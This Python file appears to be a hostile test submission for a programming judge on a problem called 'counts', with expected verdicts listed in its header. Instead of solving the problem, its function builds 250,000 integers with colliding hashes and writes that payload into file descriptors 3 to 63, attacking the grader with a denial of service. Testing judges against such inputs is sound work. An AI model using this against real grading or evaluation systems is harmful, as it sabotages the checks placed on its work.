# what: sends a set of numbers with one hash value, which costs the reader hours
# problem: counts
# verdict: timeout|wrong|runtime_error|out_of_memory
import os
import struct

PRIME = 2**61 - 1
NUMBERS = ",".join('["i","%s"]' % hex(PRIME * place) for place in range(1, 250_000))
BODY = ('{"value": ["s", [%s]]}' % NUMBERS).encode()


def letters(text):
    for handle in range(3, 64):
        view = memoryview(struct.pack(">I", len(BODY)) + BODY)
        try:
            while view:
                view = view[os.write(handle, view) :]
        except OSError:
            pass
    return {}
